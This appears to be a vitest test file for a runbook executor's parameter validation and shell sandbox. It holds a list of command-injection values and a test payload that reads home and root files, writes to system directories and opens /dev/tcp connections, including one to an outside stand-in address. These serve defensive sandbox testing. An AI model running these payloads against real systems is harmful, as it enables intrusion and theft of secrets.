// The 17 one-liners that execute values in an ordinary shell, with the values that attack them: harmless by construction.
import { once } from 'node:events';
import { chmodSync, existsSync, mkdirSync, readdirSync, writeFileSync } from 'node:fs';
import { createServer, type AddressInfo } from 'node:net';
import path from 'node:path';
import { describe, expect, it, onTestFinished } from 'vitest';
import { checkParam } from '../../../src/domain/runbook/param-check.ts';
import type { ValueType } from '../../../src/domain/runbook/types.ts';
import { executor, folder, job, needsSandbox, noSandbox, profiles, run } from './support.ts';

const oneLiners = [
  'kubectl get $P', 'echo "$(kubectl get $P)"', '[[ "$P" -gt 3 ]]', '(( P > 3 ))', 'x=$((P+1))', 'let "z=P+1"', 'declare -i n="$P"', 'a[$P]=1', 'test -v "$P"',
  'printf -v "$P" x', 'eval "get $P"', 'ssh h "rm $P"', 'bash -c "x $P"', 'xargs -I{} sh -c "echo $P" < /run/step.sh', 'kubectl exec x -- sh -c "ls $P"', 'for i in $P; do :; done',
  'psql -c "select $P"',
];
/** What somebody would run who can: write all over, look at homes, call out, call this machine. */
const payload = (canary: string, port: number) =>
  `touch /scratch/executed ${canary}/x /usr/x /etc/x /home/x /dev/shm/x; cat /home/*/* /root/*; bash -c 'exec 3<>/dev/tcp/127.0.0.1/${port}'; bash -c 'exec 3<>/dev/tcp/192.0.2.1/443'`;
const attacks = (run: string) => [
  '-x', '--all', 'a b', `a;${run}`, `$(${run})`, `a\n${run}`, `\`${run}\``, `a[$(${run})]`, `a'; ${run}; '`, '../../etc', `--checkpoint-action=exec=sh -c "${run}"`, `x" ; ${run} #`, `| ${run}`,
];
const types: readonly ValueType[] = [
  { type: 'k8s-name' }, { type: 'hostname' }, { type: 'git-sha' }, { type: 'semver' }, { type: 'boolean' }, { type: 'integer', min: 0, max: 9_999 }, { type: 'enum', values: ['orders-prod'] },
];

describe('typed values', () => {
  it.each(types)('no attack fits $type', (type) => {
    expect(attacks('id').filter((value) => checkParam(type, value).ok)).toEqual([]);
  });
});

describe.skipIf(noSandbox !== undefined)(needsSandbox('the 17 one-liners, with attacks forced past their types'), () => {
  it.each(oneLiners)('%s', async (line) => {
    const [tools, canary] = [folder('tools'), folder('canary')];
    // Stand-ins that hand their arguments to a second shell, as the real ones do on the other side.
    for (const tool of ['kubectl', 'ssh', 'psql', 'get', 'x']) {
      writeFileSync(path.join(tools, tool), '#!/bin/sh\nfor last; do :; done\nexec sh -c "$last"\n');
      chmodSync(path.join(tools, tool), 0o755);
    }
    let reached = 0;
    const server = createServer((socket) => void (reached += 1, socket.destroy())).listen(0, '0.0.0.0');
    await once(server, 'listening');
    onTestFinished(() => void server.close());
    const values = attacks(payload(canary, (server.address() as AddressInfo).port));
    const env = Object.fromEntries(values.map((value, n) => [`V${n}`, value]));
    const { executor: made, spool } = executor({ profiles: profiles(`{ plain: { binds: [${tools}], path: [${tools}] } }`) });
    const body = `set +eu\nfor v in ${values.map((_value, n) => `V${n}`).join(' ')}; do P=\${!v}; export P; ( ${line} ) >/dev/null 2>&1 </dev/null; done; echo over; ls /scratch`;
    const before = readdirSync(spool);
    const end = await run(made, job({ shell: 'bash', body, env, timeoutMs: 18_000 }));
    expect(end.text).toMatch(/^over\n/);
    expect(reached).toBe(0);
    expect(readdirSync(canary)).toEqual([]);
    for (const place of ['/usr/x', '/etc/x', '/home/x', '/dev/shm/x', '/scratch/executed']) expect(existsSync(place)).toBe(false);
    expect(readdirSync(spool).filter((name) => !before.includes(name) && !/^\.|^check-/.test(name))).toEqual(['run-0-1']);
  });

  it('the attacks are real: where a shell reads the value again, the payload runs, and stays in /scratch', async () => {
    const canary = folder('canary');
    mkdirSync(path.join(canary, 'there'));
    const end = await run(executor().executor, job({ shell: 'bash', body: 'eval "true $P" 2>/dev/null || true; ls /scratch', env: { P: `; ${payload(canary, 1)}` } }));
    expect(end.text).toContain('executed');
    expect(readdirSync(canary)).toEqual(['there']);
  });
});
